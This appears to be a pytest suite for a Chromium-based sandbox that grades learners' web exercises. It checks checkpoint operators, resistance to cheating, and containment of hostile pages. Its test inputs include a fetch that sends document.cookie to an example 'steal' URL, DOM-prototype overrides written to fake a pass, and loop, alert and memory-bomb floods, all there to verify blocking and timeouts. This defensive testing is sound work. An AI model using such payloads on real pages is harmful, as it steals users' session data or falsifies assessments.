"""Grading in the real system Chromium: shipped exercises, every checkpoint type and operator, hostile pages."""

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator
from typing import Any

import psutil
import pytest

from app.exercises.repository import all_exercises
from app.exercises.schemas import CodeFiles, Exercise
from app.submissions.sandbox import GradeReport, SandboxPool
from app.tasks.errors import PermanentError
from tests.support.grading import synthetic_exercise

EXERCISES = all_exercises()


@pytest.fixture(scope="module")
async def pool() -> AsyncIterator[SandboxPool]:
    sandbox = SandboxPool(chromium_path="/usr/bin/chromium", max_concurrency=5, queue_timeout_s=30, timeout_s=5)
    yield sandbox
    await sandbox.close()


async def _grade(pool: SandboxPool, exercise: Exercise, code: CodeFiles) -> tuple[GradeReport, list[Any]]:
    progress: list[Any] = []
    report = await pool.grade(exercise, code, lambda *step: progress.append(step))
    return report, progress


@pytest.mark.parametrize("exercise_id", sorted(EXERCISES))
async def test_reference_answer_passes_and_start_code_fails(pool: SandboxPool, exercise_id: str) -> None:
    exercise = EXERCISES[exercise_id]
    answer, progress = await _grade(pool, exercise, exercise.answer)
    assert answer.passed, [c for c in answer.checkpoints if not c["passed"]]
    assert progress[0][0] == "preparing"
    fractions = [step[2] for step in progress[1:]]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0 and len(fractions) == len(exercise.checkpoints)
    start, _ = await _grade(pool, exercise, exercise.start_code)
    assert not start.passed, "the start code must not already pass"


PAGE = CodeFiles(
    html="""<h1 id="title" class="big hero" data-n="42">Hello   World</h1>
<ul><li>one</li><li>two</li><li>three</li></ul>
<a href="https://example.org/docs">docs</a>
<button id="b">Go</button><input id="i"><div id="box">box</div><p id="out"></p>""",
    css="#title { color: #f00; margin-top: 2em; } #box { width: 120px; }",
    js="""document.querySelector('#b').addEventListener('click', () => { document.querySelector('#out').textContent = 'clicked'; });
document.querySelector('#i').addEventListener('input', (e) => { document.querySelector('#out').textContent = e.target.value; });
document.querySelector('#i').addEventListener('focus', () => { document.querySelector('#out').textContent = 'focused'; });
document.querySelector('#box').addEventListener('mouseenter', () => { document.querySelector('#out').textContent = 'hovered'; });""",
)

# (checkpoint without name/feedback, passes on PAGE?)
CASES: list[tuple[dict[str, Any], bool]] = [
    ({"type": "assert_element", "selector": "li"}, True),
    ({"type": "assert_element", "selector": "table"}, False),
    ({"type": "assert_element", "selector": "li", "operator": "equals", "value": 3}, True),
    ({"type": "assert_element", "selector": "li", "operator": "equals", "value": 2}, False),
    ({"type": "assert_element", "selector": "li", "operator": "greater_than", "value": 2}, True),
    ({"type": "assert_element", "selector": "li", "operator": "greater_than", "value": 3}, False),
    ({"type": "assert_element", "selector": "li", "operator": "less_than", "value": 4}, True),
    ({"type": "assert_element", "selector": "li", "operator": "less_than", "value": 3}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "equals", "value": "Hello World"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "equals", "value": "Hello"}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "not_equals", "value": "Bye"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "not_equals", "value": "Hello World"}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "contains", "value": "lo Wo"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "contains", "value": "xyz"}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "not_contains", "value": "xyz"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "not_contains", "value": "World"}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "starts_with", "value": "Hello"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "starts_with", "value": "World"}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "ends_with", "value": "World"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "ends_with", "value": "Hello"}, False),
    ({"type": "assert_text_content", "selector": "#title", "operator": "regex", "value": "^H\\w+ W"}, True),
    ({"type": "assert_text_content", "selector": "#title", "operator": "regex", "value": "^\\d+$"}, False),
    ({"type": "assert_text_content", "selector": "#missing", "operator": "not_contains", "value": "x"}, False),
    ({"type": "assert_attribute", "selector": "#title", "attribute": "data-n"}, True),
    ({"type": "assert_attribute", "selector": "#title", "attribute": "data-missing"}, False),
    (
        {
            "type": "assert_attribute",
            "selector": "#title",
            "attribute": "data-n",
            "operator": "greater_than",
            "value": 41,
        },
        True,
    ),
    (
        {"type": "assert_attribute", "selector": "#title", "attribute": "data-n", "operator": "less_than", "value": 41},
        False,
    ),
    (
        {
            "type": "assert_attribute",
            "selector": "a",
            "attribute": "href",
            "operator": "starts_with",
            "value": "https://",
        },
        True,
    ),
    (
        {
            "type": "assert_attribute",
            "selector": "#title",
            "attribute": "class",
            "operator": "contains",
            "value": "hero",
        },
        True,
    ),
    (
        {
            "type": "assert_attribute",
            "selector": "a",
            "attribute": "href",
            "operator": "same_origin",
            "value": "https://example.org",
        },
        True,
    ),
    (
        {
            "type": "assert_attribute",
            "selector": "a",
            "attribute": "href",
            "operator": "same_origin",
            "value": "https://example.org.evil.example/docs",
        },
        False,
    ),
    ({"type": "assert_style", "selector": "#title", "property": "color", "operator": "equals", "value": "red"}, True),
    ({"type": "assert_style", "selector": "#title", "property": "color", "operator": "equals", "value": "#f00"}, True),
    (
        {
            "type": "assert_style",
            "selector": "#title",
            "property": "color",
            "operator": "equals",
            "value": "rgb(255, 0, 0)",
        },
        True,
    ),
    ({"type": "assert_style", "selector": "#title", "property": "color", "operator": "equals", "value": "blue"}, False),
    (
        {"type": "assert_style", "selector": "#title", "property": "color", "operator": "not_equals", "value": "blue"},
        True,
    ),
    # h1's font size is 2em of 16px: its 2em margin is 64px, and "2em" is normalised in the same context.
    (
        {"type": "assert_style", "selector": "#title", "property": "margin-top", "operator": "equals", "value": "2em"},
        True,
    ),
    (
        {"type": "assert_style", "selector": "#title", "property": "margin-top", "operator": "equals", "value": "64px"},
        True,
    ),
    (
        {"type": "assert_style", "selector": "#box", "property": "width", "operator": "greater_than", "value": "100px"},
        True,
    ),
    (
        {"type": "assert_style", "selector": "#box", "property": "width", "operator": "less_than", "value": "100px"},
        False,
    ),
    ({"type": "custom_script", "script": "return document.querySelectorAll('li').length * 2;", "value": 6}, True),
    ({"type": "custom_script", "script": "return document.title === 'nope';"}, False),
    ({"type": "custom_script", "script": "throw new Error('author bug');"}, False),
    (
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "click", "selector": "#b"}],
            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "clicked"},
        },
        True,
    ),
    # Checkpoints share one page in order: focus first, before typing focuses the field.
    (
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "focus", "selector": "#i"}],
            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "focused"},
        },
        True,
    ),
    (
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "type_text", "selector": "#i", "text": "héllo"}],
            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "héllo"},
        },
        True,
    ),
    (  # fill replaces what type_text left
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "fill", "selector": "#i", "text": "again"}],
            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "again"},
        },
        True,
    ),
    (
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "hover", "selector": "#box"}],
            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "hovered"},
        },
        True,
    ),
    (
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "click", "selector": "#nothing-here"}],
            "then": {"type": "assert_element", "selector": "body"},
        },
        False,
    ),
    (
        {
            "type": "interaction_and_assert",
            "actions": [{"action": "click", "selector": "#b"}],
            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "hovered"},
        },
        False,
    ),
]


async def test_every_checkpoint_type_and_operator_passes_and_fails_where_it_should() -> None:
    # All 47 checks in one page, one of them waiting 2 s for an element that never comes: ~4 s
    # on a slow day, so this runs under the production time limit (15 s), not the module's 5 s.
    pool = SandboxPool(chromium_path="/usr/bin/chromium", max_concurrency=1, queue_timeout_s=30, timeout_s=15)
    try:
        report, _ = await _grade(pool, synthetic_exercise([case for case, _ in CASES]), PAGE)
    finally:
        await pool.close()
    outcomes = [c["passed"] for c in report.checkpoints]
    wrong = [(CASES[i][0], outcome) for i, outcome in enumerate(outcomes) if outcome != CASES[i][1]]
    assert not wrong, wrong
    covered = {c["type"] for c, _ in CASES} | {c.get("then", {}).get("type") for c, _ in CASES} - {None}
    operators = {c.get("operator", "exists") for c, _ in CASES} | {c.get("then", {}).get("operator") for c, _ in CASES}
    assert (
        len(covered) == 6
        and {
            "exists",
            "equals",
            "not_equals",
            "contains",
            "not_contains",
            "starts_with",
            "ends_with",
            "greater_than",
            "less_than",
            "regex",
        }
        <= operators
    )


# Issue 25: pages that passed a check without the skill it names; each must fail that check.
WITHOUT_THE_SKILL = {
    ("html-links-and-images", "The link points to MDN"): CodeFiles(
        html='<a href="https://developer.mozilla.org@example.com/" target="_blank">MDN</a><img src="x.png" alt="a logo">'
    ),
    ("js-click-counter", "One click counts to 1"): CodeFiles(
        html='<button id="add">Add</button><span id="count">0</span>',
        js="document.querySelector('#add').onclick = () => { document.querySelector('#count').textContent = '3'; };",
    ),
    ("js-click-counter", "Two more clicks count to 3"): CodeFiles(
        html='<button id="add">Add</button><span id="count">0</span>',
        js="document.querySelector('#add').onclick = () => { document.querySelector('#count').textContent = '1'; };",
    ),
    ("js-greeting", "Greets whoever is typed"): CodeFiles(
        html='<input id="name"><button id="greet">Greet</button><p id="greeting"></p>',
        js="document.querySelector('#greet').onclick = () => { "
        "document.querySelector('#greeting').textContent = 'Hello, Ada!'; };",
    ),
    ("js-hover-and-focus", "The box starts inactive"): CodeFiles(
        html='<div class="box active">Hover me</div><input id="email"><p id="hint" hidden>hint</p>',
        css=".box.active { background: gold; }",
        js="document.querySelector('#email').onfocus = () => { document.querySelector('#hint').hidden = false; };",
    ),
    ("css-box-model", "Cards are spaced by 1em"): CodeFiles(
        html='<div class="card">A card</div>',
        css=".card { padding: 16px; border: 2px solid; margin-bottom: 1em; font-size: 0; }",
    ),
}


@pytest.mark.parametrize(("exercise_id", "checkpoint"), sorted(WITHOUT_THE_SKILL))
async def test_a_check_fails_a_page_that_lacks_the_skill_it_names(
    pool: SandboxPool, exercise_id: str, checkpoint: str
) -> None:
    report, _ = await _grade(pool, EXERCISES[exercise_id], WITHOUT_THE_SKILL[(exercise_id, checkpoint)])
    outcomes = {c["name"]: c["passed"] for c in report.checkpoints}
    assert outcomes[checkpoint] is False, outcomes


HEADING_EXERCISE = synthetic_exercise(
    [{"type": "assert_text_content", "selector": "h1", "operator": "equals", "value": "My First Page"}]
)


async def test_learner_code_cannot_fake_a_pass(pool: SandboxPool) -> None:
    cheat = CodeFiles(
        html="<h1>Something else</h1>",
        js="""document.querySelector = () => ({ textContent: 'My First Page' });
document.querySelectorAll = () => [{ textContent: 'My First Page' }];
Object.defineProperty(Node.prototype, 'textContent', { get() { return 'My First Page'; } });
Object.prototype.textContent = 'My First Page';
String.prototype.trim = function () { return 'My First Page'; };
window.getComputedStyle = () => ({ getPropertyValue: () => 'rgb(255, 0, 0)' });""",
    )
    report, _ = await _grade(pool, HEADING_EXERCISE, cheat)
    assert not report.passed


async def test_an_infinite_loop_ends_with_timeout_and_the_pool_still_grades(pool: SandboxPool) -> None:
    with pytest.raises(PermanentError) as failure:
        await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>", js="while (true) {}"))
    assert failure.value.code == "timeout"
    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
    assert report.passed


async def test_thousands_of_alerts_are_dismissed_and_recorded(pool: SandboxPool) -> None:
    code = CodeFiles(
        html="<h1>My First Page</h1>", js="for (let i = 0; i < 10000; i++) alert('hi ' + i); confirm('sure?');"
    )
    report, _ = await _grade(pool, HEADING_EXERCISE, code)
    assert report.passed
    assert report.details["dialogs"] == 10001 and report.details["dialog_samples"][0] == "alert: hi 0"


async def test_network_requests_are_blocked_and_recorded(pool: SandboxPool) -> None:
    code = CodeFiles(
        html='<h1>My First Page</h1><img src="http://example.com/pixel.png"><link rel="stylesheet" href="https://cdn.example.net/x.css">',
        js="""fetch('http://example.com/steal?d=' + document.cookie).then(() => document.title = 'sent', () => document.title = 'blocked');
new WebSocket('ws://example.com/socket');""",
    )
    report, _ = await _grade(pool, HEADING_EXERCISE, code)
    assert report.passed
    blocked = report.details["blocked_requests"]
    assert any(url.startswith("http://example.com/steal") for url in blocked)
    assert any(url == "http://example.com/pixel.png" for url in blocked)
    assert any(url.startswith("https://cdn.example.net/") for url in blocked)


async def test_a_five_megabyte_dom_is_graded(pool: SandboxPool) -> None:
    code = CodeFiles(
        html="<h1>My First Page</h1><div id='big'></div>",
        js="document.getElementById('big').innerHTML = '<p>' + 'x'.repeat(100) + '</p>'.repeat(1) + ('<span>' + 'y'.repeat(90) + '</span>').repeat(50000);",
    )
    report, _ = await _grade(pool, HEADING_EXERCISE, code)
    assert report.passed


async def test_a_missing_browser_is_a_clear_error() -> None:
    sandbox = SandboxPool(chromium_path="/nonexistent/chromium", max_concurrency=1, queue_timeout_s=1, timeout_s=5)
    try:
        with pytest.raises(PermanentError) as failure:
            await _grade(sandbox, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
        assert failure.value.code == "sandbox_unavailable"
        assert sandbox.active == 0, "the slot is given back"
    finally:
        await sandbox.close()


async def test_a_crashed_browser_is_replaced(pool: SandboxPool) -> None:
    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
    assert report.passed
    launches = pool.launches
    # The browser of every idle lane dies under the pool (killed from outside, by PID).
    browsers = [p for lane in pool._idle for p in psutil.Process(lane.pid).children(recursive=True) if _is_browser(p)]
    assert browsers, "an idle lane has its browser"
    for browser in browsers:
        browser.kill()
    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
    assert report.passed, "not the learner's fault: graded in a fresh lane"
    assert pool.launches > launches


def _is_browser(process: psutil.Process) -> bool:
    """Chromium's browser process (not a renderer, zygote or helper)."""
    with contextlib.suppress(psutil.Error):
        command = process.cmdline()
        return bool(command) and "chrom" in command[0] and not any(a.startswith("--type=") for a in command)
    return False


# One author rule that matches every element, the old expectation probe included, with the
# wrong value for every property the style checks look at.
EVERYTHING_WRONG = """*, *[style] { color: blue !important; background-color: blue !important; padding-top: 3px !important;
border-top-width: 1px !important; border-top-style: dotted !important; margin-bottom: 0px !important;
display: block !important; justify-content: center !important; }"""


@pytest.mark.parametrize("exercise_id", ["css-box-model", "css-colours", "css-flex-row"])
async def test_a_rule_that_also_styles_the_expectation_passes_no_style_check(
    pool: SandboxPool, exercise_id: str
) -> None:
    exercise = EXERCISES[exercise_id]
    cheat = CodeFiles(html=exercise.answer.html, css=EVERYTHING_WRONG, js="")
    report, _ = await _grade(pool, exercise, cheat)
    equals = {
        c.name for c in exercise.checkpoints if getattr(c, "type", "") == "assert_style" and c.operator == "equals"
    }
    assert equals, "the exercise has style checks to cheat"
    faked = [c["name"] for c in report.checkpoints if c["name"] in equals and c["passed"]]
    assert not faked, faked


async def test_styles_are_compared_in_computed_form() -> None:
    # 'red' == '#f00', '1em' == the element's font size, '50%' == half the parent's width.
    exercise = synthetic_exercise(
        [
            {"type": "assert_style", "selector": "#t", "property": "color", "operator": "equals", "value": "#f00"},
            {"type": "assert_style", "selector": "#t", "property": "margin-top", "operator": "equals", "value": "1em"},
            {"type": "assert_style", "selector": "#t", "property": "width", "operator": "equals", "value": "50%"},
            {
                "type": "assert_style",
                "selector": "#t",
                "property": "border-top-width",
                "operator": "equals",
                "value": "2px",
            },
        ]
    )
    code = CodeFiles(
        html="<div style='width: 600px'><p id='t'>x</p></div>",
        css="#t { color: red; font-size: 20px; margin-top: 20px; width: 300px; border-top: 2px solid; }",
    )
    sandbox = SandboxPool(chromium_path="/usr/bin/chromium", max_concurrency=1, queue_timeout_s=30, timeout_s=10)
    try:
        report, _ = await _grade(sandbox, exercise, code)
    finally:
        await sandbox.close()
    assert [c["passed"] for c in report.checkpoints] == [True, True, True, True], report.checkpoints


async def test_an_upper_case_script_end_tag_in_the_js_stays_inside_the_script(pool: SandboxPool) -> None:
    code = CodeFiles(
        html="<h1>x</h1>",
        js="document.querySelector('h1').textContent = ['My First Page', '</SCRIPT><h2>out</h2>'][0];",
    )
    report, _ = await _grade(pool, HEADING_EXERCISE, code)
    assert report.passed, "the script ran whole: '</SCRIPT>' did not end it early"


FLOODS = {
    "alert loop": "while (true) alert('again');",
    "console loop": "while (true) console.log('x'.repeat(1000));",
    "alerts every tick": "setInterval(() => { for (let i = 0; i < 1000; i++) alert(i); }, 0);",
    "console every tick": "setInterval(() => { for (let i = 0; i < 10000; i++) console.log(i); }, 0);",
    "errors every tick": "setInterval(() => { throw new Error('boom'); }, 0);",
    "a huge DOM": "let s = ''; for (let i = 0; i < 3e6; i++) s += '<div>x</div>'; document.body.innerHTML = s;",
}


@pytest.mark.parametrize("flood", sorted(FLOODS))
async def test_a_flooding_page_ends_within_its_time_limit(pool: SandboxPool, flood: str) -> None:
    started = time.monotonic()
    try:
        report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>", js=FLOODS[flood]))
        assert report.passed  # the page finished: its flood was counted, not waited on
    except PermanentError as failure:
        assert failure.code == "timeout" and "loop" in failure.message
    assert time.monotonic() - started < 5 + 1, "the time limit (5 s) includes closing the page"


async def test_a_memory_bomb_is_the_learners_page_crashing_not_our_error(pool: SandboxPool) -> None:
    bomb = CodeFiles(html="<h1>My First Page</h1>", js="const a = []; while (true) a.push(new Array(1e6).fill(1.5));")
    with pytest.raises(PermanentError) as failure:
        await _grade(pool, HEADING_EXERCISE, bomb)
    assert failure.value.code == "page_crashed" and "memory" in failure.value.message
    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
    assert report.passed


async def test_five_stuck_pages_of_one_learner_neither_fail_nor_slow_another_learners_grading() -> None:
    sandbox = SandboxPool(chromium_path="/usr/bin/chromium", max_concurrency=5, queue_timeout_s=60, timeout_s=3)
    stuck = CodeFiles(html="<h1>x</h1>", js="while (true) alert('stuck');")
    try:
        await _grade(sandbox, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))  # a lane is up
        await _grade(sandbox, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))  # and its spare
        started = time.monotonic()
        await _grade(sandbox, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
        alone = time.monotonic() - started
        hostile = [
            asyncio.ensure_future(sandbox.grade(HEADING_EXERCISE, stuck, lambda *step: None, learner="mallory"))
            for _ in range(5)
        ]
        await asyncio.sleep(0.5)  # the first of them is in a browser, looping
        started = time.monotonic()
        report = await sandbox.grade(
            HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"), lambda *step: None, learner="alice"
        )
        took = time.monotonic() - started
        outcomes = await asyncio.gather(*hostile, return_exceptions=True)
    finally:
        await sandbox.close()
    assert report.passed and took < max(3 * alone, alone + 2.0), (took, alone)
    assert all(isinstance(o, PermanentError) and o.code == "timeout" for o in outcomes), outcomes
    assert sandbox.peak == 2, "one of mallory's pages at a time, beside alice's"
    assert sandbox.kills == 5, "each stuck page's lane was ended, and no other"
